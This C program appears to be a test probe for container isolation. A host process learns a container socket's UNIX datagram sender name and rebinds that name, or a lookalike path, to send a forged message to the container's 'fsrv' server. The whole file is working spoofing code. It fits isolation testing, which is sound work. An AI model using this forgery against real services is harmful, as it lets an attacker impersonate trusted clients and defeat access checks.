/* A host process (run as another user) forges a container's datagram sender
 * name: it binds SPY, takes the name the kernel sent a named container socket's
 * datagram from, binds a name like it (the same abstract name; for a path, the
 * same one, then the same last name in a directory of its own with the same
 * prefix) and sends to the container's abstract server "fsrv" as that socket.
 * Prints the name it learnt and what it could bind.
 *
 *   dgram_sender_forger SPY */
#define _GNU_SOURCE
#include <errno.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

static void forge(const struct sockaddr_un *as, socklen_t len, const char *what)
{
	struct sockaddr_un srv = { .sun_family = AF_UNIX };
	memcpy(srv.sun_path, "\0fsrv", 5);
	int f = socket(AF_UNIX, SOCK_DGRAM, 0), r;
	/* a name still held by the sender's socket is free once its send is done */
	for (int i = 0; (r = bind(f, (const struct sockaddr *)as, len)) && errno == EADDRINUSE && i < 200; i++) usleep(10000);
	if (r) {
		printf("%s: bind: %s\n", what, strerror(errno));
	} else {
		long n = sendto(f, "forged", 6, 0, (struct sockaddr *)&srv, offsetof(struct sockaddr_un, sun_path) + 5);
		printf("%s: sent %ld\n", what, n);
		if (as->sun_path[0]) unlink(as->sun_path);
	}
	close(f);
}

int main(int argc, char **argv)
{
	if (argc < 2) return 2;
	struct sockaddr_un spy = { .sun_family = AF_UNIX };
	strncpy(spy.sun_path, argv[1], sizeof spy.sun_path - 1);
	unlink(spy.sun_path);
	int s = socket(AF_UNIX, SOCK_DGRAM, 0);
	struct timeval wait = { 30, 0 };
	if (bind(s, (struct sockaddr *)&spy, sizeof spy) || setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait)) {
		perror("spy");
		return 1;
	}
	printf("listening\n");
	fflush(stdout);
	struct sockaddr_un from;
	socklen_t len = sizeof from;
	memset(&from, 0, sizeof from);
	char buf[16];
	if (recvfrom(s, buf, sizeof buf, 0, (struct sockaddr *)&from, &len) < 0) {
		perror("recvfrom");
		return 1;
	}
	unlink(spy.sun_path);
	if (len <= offsetof(struct sockaddr_un, sun_path)) {
		printf("learnt nothing: unnamed\n");
		return 0;
	}
	if (!from.sun_path[0]) {
		printf("learnt an abstract name\n");
		forge(&from, len, "the same abstract name");
		return 0;
	}
	printf("learnt a path\n");
	forge(&from, len, "the same path");
	/* the same last name in a directory of the forger's own, named with the same prefix */
	char *slash = strrchr(from.sun_path, '/');
	if (!slash) return 0;
	char dir[sizeof from.sun_path];
	snprintf(dir, sizeof dir, "%.*sforgedXXXXXX", (int)(slash - from.sun_path), from.sun_path);
	if (!mkdtemp(dir)) {
		perror("mkdtemp");
		return 1;
	}
	struct sockaddr_un own = { .sun_family = AF_UNIX };
	snprintf(own.sun_path, sizeof own.sun_path, "%s%s", dir, slash);
	forge(&own, sizeof own, "the same name in a directory of its own");
	rmdir(dir);
	return 0;
}
